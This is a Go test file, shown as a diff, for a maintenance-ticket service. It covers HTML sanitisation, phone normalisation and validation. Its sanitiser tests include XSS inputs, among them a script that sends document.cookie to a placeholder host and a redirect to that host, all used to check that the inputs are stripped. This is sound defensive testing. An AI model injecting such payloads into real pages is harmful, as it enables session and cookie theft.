@@ -0,0 +1,159 @@
+package main
+
+import (
+	"context"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestStripHTML(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"AC tidak dingin", "AC tidak dingin"},
+		{"<b>macet</b>", "macet"},
+		{"<script>alert(1)</script>lampu mati", "lampu mati"},
+		{"<SCRIPT type=\"text/javascript\">\ndocument.location='//x'\n</SCRIPT >pintu", "pintu"},
+		{"<style>body{display:none}</style>wifi", "wifi"},
+		{"<scr<script>ipt>alert(1)</script>", ""},
+		{"<img src=x onerror=alert(1)>proyektor", "proyektor"},
+		{"<a href=\"javascript:alert(1)\">klik</a>", "klik"},
+		{"<!-- komentar -->kursi<!DOCTYPE html>", "kursi"},
+		{"terpotong <script", "terpotong "},
+		{"suhu < 20 dan > 10", "suhu < 20 dan > 10"},
+		// a letter right after < reads as a tag cut off at the end
+		{"a<b", "a"},
+	} {
+		got := stripHTML(tc.in)
+		if got != tc.want {
+			t.Errorf("stripHTML(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+		if strings.Contains(strings.ToLower(got), "<script") {
+			t.Errorf("stripHTML(%q) kept a script tag: %q", tc.in, got)
+		}
+	}
+}
+
+func TestNormalizePhone(t *testing.T) {
+	prev := defaultCountry
+	t.Cleanup(func() { defaultCountry = prev })
+	for _, tc := range []struct {
+		country, in, want string
+	}{
+		{"62", "0812-3456-789", "+628123456789"},
+		{"62", "  0812 3456 789 ", "+628123456789"},
+		{"62", "(0812) 3456.789", "+628123456789"},
+		{"62", "+62 812-3456-789", "+628123456789"},
+		{"62", "0062 812 3456 789", "+628123456789"},
+		{"62", "628123456789", "+628123456789"},
+		{"62", "812/3456/789", "+628123456789"},
+		{"62", "0812-3456", "+628123456"},
+		// + and 00 keep the number's own country
+		{"62", "+1 (415) 555-2671", "+14155552671"},
+		{"62", "0044 20 7946 0958", "+442079460958"},
+		{"1", "(415) 555-2671", "+14155552671"},
+		{"1", "0415 555 2671", "+14155552671"},
+		{"1", "+62 812 3456 789", "+628123456789"},
+		{"62", "", ""},
+		{"62", "nomor saya", ""},
+		{"62", "0812x3456789", ""},
+		{"62", "123", ""},
+		{"62", "+0812345678", ""},
+		{"62", "+1234567890123456", ""},
+		{"62", "++628123456789", ""},
+	} {
+		defaultCountry = tc.country
+		if got := normalizePhone(tc.in); got != tc.want {
+			t.Errorf("-default-country=%s: normalizePhone(%q) = %q, want %q", tc.country, tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestCreateTicketNormalizesPhone(t *testing.T) {
+	openTestDB(t)
+	w := serve(createTicketHandler, "POST", "/api/tickets", `{"name":"Budi","phone":"0812-3456-789","room":"A1","description":"AC bocor"}`)
+	if w.Code != http.StatusCreated {
+		t.Fatalf("create: %d %s", w.Code, w.Body)
+	}
+	id := decodeBody(t, w)["id"]
+	var phone string
+	if err := db.QueryRowContext(context.Background(), "SELECT phone FROM tickets WHERE id = ?", id).Scan(&phone); err != nil {
+		t.Fatal(err)
+	}
+	if phone != "+628123456789" {
+		t.Errorf("stored phone %q, want +628123456789", phone)
+	}
+
+	w = serve(createTicketHandler, "POST", "/api/tickets", `{"name":"Budi","phone":"nomor saya","room":"A1","description":"AC bocor"}`)
+	if code, fields := errorFields(t, w); w.Code != http.StatusUnprocessableEntity || code != "validation_failed" || fields["phone"] == nil {
+		t.Errorf("unreadable phone: %d %s", w.Code, w.Body)
+	}
+}
+
+func TestValidateTicketWritesNothing(t *testing.T) {
+	openTestDB(t)
+	rows := func() (n int) {
+		t.Helper()
+		err := db.QueryRowContext(context.Background(), "SELECT (SELECT COUNT(*) FROM tickets) + (SELECT COUNT(*) FROM audit_log) + (SELECT COUNT(*) FROM broadcast_events)").Scan(&n)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return n
+	}
+
+	w := serve(validateTicketHandler, "POST", "/api/tickets/validate", `{"name":"Budi","phone":"0812-3456-789","room":"A1","description":"AC bocor","priority":"high"}`)
+	if w.Code != http.StatusOK || decodeBody(t, w)["valid"] != true {
+		t.Errorf("valid ticket: %d %s", w.Code, w.Body)
+	}
+	if n := rows(); n != 0 {
+		t.Errorf("validating a valid ticket wrote %d rows", n)
+	}
+
+	// the same payload gets the same field errors from validate and create
+	const invalid = `{"name":"","phone":"nomor saya","room":"A1","description":"AC bocor","priority":"asap"}`
+	w = serve(validateTicketHandler, "POST", "/api/tickets/validate", invalid)
+	code, fields := errorFields(t, w)
+	if w.Code != http.StatusUnprocessableEntity || code != "validation_failed" {
+		t.Fatalf("invalid ticket: %d %s", w.Code, w.Body)
+	}
+	for _, f := range []string{"name", "phone", "priority"} {
+		if fields[f] == nil {
+			t.Errorf("no error for %s: %s", f, w.Body)
+		}
+	}
+	if n := rows(); n != 0 {
+		t.Errorf("validating an invalid ticket wrote %d rows", n)
+	}
+	created := serve(createTicketHandler, "POST", "/api/tickets", invalid)
+	if _, createFields := errorFields(t, created); created.Code != w.Code || len(createFields) != len(fields) {
+		t.Errorf("create answered %d %s, validate %d %s", created.Code, created.Body, w.Code, w.Body)
+	}
+}
+
+func TestCreateTicketStripsHTML(t *testing.T) {
+	openTestDB(t)
+	prev := sanitizeHTML
+	t.Cleanup(func() { sanitizeHTML = prev })
+	const payload = `{"name":"<b>Budi</b>","phone":"08123456789","room":"<i>A1</i>","description":"<script>fetch('//x?c='+document.cookie)</script>AC bocor"}`
+	for _, tc := range []struct {
+		sanitize                bool
+		name, room, description string
+	}{
+		{true, "Budi", "A1", "AC bocor"},
+		{false, "<b>Budi</b>", "<i>A1</i>", "<script>fetch('//x?c='+document.cookie)</script>AC bocor"},
+	} {
+		sanitizeHTML = tc.sanitize
+		w := serve(createTicketHandler, "POST", "/api/tickets", payload)
+		if w.Code != http.StatusCreated {
+			t.Fatalf("-sanitize-html=%v: %d %s", tc.sanitize, w.Code, w.Body)
+		}
+		id := decodeBody(t, w)["id"]
+		var name, room, description string
+		err := db.QueryRowContext(context.Background(), "SELECT name, room, description FROM tickets WHERE id = ?", id).Scan(&name, &room, &description)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if name != tc.name || room != tc.room || description != tc.description {
+			t.Errorf("-sanitize-html=%v stored %q, %q, %q; want %q, %q, %q", tc.sanitize, name, room, description, tc.name, tc.room, tc.description)
+		}
+	}
+}